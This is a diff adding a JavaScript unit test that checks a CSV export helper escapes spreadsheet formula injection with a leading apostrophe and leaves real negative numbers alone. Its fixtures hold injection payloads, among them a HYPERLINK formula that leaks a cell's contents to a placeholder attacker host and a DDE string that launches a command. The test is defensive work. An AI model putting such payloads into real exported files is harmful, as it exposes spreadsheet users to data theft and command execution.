@@ -43,4 +43,27 @@ describe('formatting helpers', () => {
     expect(csvDecimal('fr')).to.equal(',');
     expect(csvDecimal('en')).to.equal('.');
   });
+
+  it('neutralises formulas in cells and headers (OWASP: a leading \'), real negative numbers stay numbers', () => {
+    const rows = [
+      { '=cmd': '=HYPERLINK("http://evil.example/?"&A1,"clic")', n: -12.5 },
+      { '=cmd': "+cmd|' /C calc'!A0", n: -3 },
+      { '=cmd': '@SUM(1+1)', n: 0 },
+      { '=cmd': '-2+3+cmd', n: null },
+      { '=cmd': '\t=1+1', n: null },
+      { '=cmd': '\r=1+1', n: null },
+      { '=cmd': '-42', n: null },
+    ];
+    const lines = toCSV(rows, ['=cmd', 'n'], { decimal: ',' }).slice(1).split('\r\n');
+    expect(lines.slice(0, 7)).to.deep.equal([
+      "'=cmd;n",
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""clic"")";-12,5',
+      "'+cmd|' /C calc'!A0;-3",
+      "'@SUM(1+1);0",
+      "'-2+3+cmd;",
+      "'\t=1+1;",
+      '"\'\r=1+1";',
+    ]);
+    expect(lines[7]).to.equal('-42;');
+  });
 });
